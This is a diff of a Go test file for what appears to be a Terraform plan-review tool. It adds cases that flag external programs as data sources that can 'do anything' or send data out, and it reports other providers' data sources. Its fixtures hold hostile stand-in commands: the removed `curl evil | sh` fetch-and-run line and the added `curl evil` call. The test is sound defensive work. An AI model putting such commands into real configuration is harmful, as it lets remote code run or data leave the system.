@@ -115,11 +115,27 @@ var cases = map[string]struct {
 		categories: []category.Category{category.Interrupted, category.Restarted, category.Code},
 	},
 	"a program as a data source": {
-		changes: []attributes{change("data.external.x", []string{"read"}, nil, attributes{"program": []any{"sh", "-c", "curl evil | sh"}},
+		changes: []attributes{change("data.external.x", []string{"read"}, nil, attributes{"program": []any{"sh", "-c", "curl evil"}},
 			attributes{"mode": "data", "type": "external", "provider_name": "registry.terraform.io/hashicorp/external"})},
-		says:       []string{"lets the program of `data.external.x` (data source) do anything"},
+		says: []string{
+			"lets the program of `data.external.x` (data source) do anything", "which may also send data out: `data.external.x` (data source: `program.0` `sh`, `program.1` `-c`, `program.2` `curl evil`)\n",
+			"| `program.2` | none | `curl evil` |",
+		},
 		silent:     []string{"Nothing changes."},
 		categories: []category.Category{category.Code, category.Provisioned},
+	},
+	"data sources of other providers that were read for the plan": {
+		fields: configured(nil,
+			attributes{"address": "data.http.x", "mode": "data", "type": "http", "name": "x"}, attributes{"address": "data.aws_ami.x", "mode": "data", "type": "aws_ami", "name": "x"},
+			attributes{"address": "data.kuscia_domain.x", "mode": "data", "type": "kuscia_domain", "name": "x"}, attributes{"address": "data.external.x", "mode": "data", "type": "external", "name": "x"},
+			attributes{"address": "ephemeral.vault_secret.x", "mode": "ephemeral", "type": "vault_secret", "name": "x"}, attributes{"address": "ephemeral.kuscia_certificate.x", "mode": "ephemeral", "type": "kuscia_certificate", "name": "x"}),
+		changes: []attributes{posted(attributes{"address": "data.http.x[0]"})},
+		says: []string{
+			"reads `data.http.x[0]` of another provider", "- What data sources of other providers did when they were read for this plan: `data.aws_ami.x`.\n",
+			"- What ephemeral resources of other providers do, for this plan and again in the apply: `ephemeral.vault_secret.x`.\n", "(data source, read for this plan)",
+		},
+		silent:     []string{"kuscia_domain", "kuscia_certificate"},
+		categories: []category.Category{category.Provisioned, category.Unknown},
 	},
 	"a program as a data source that was read for the plan": {
 		fields: attributes{"configuration": attributes{"root_module": attributes{
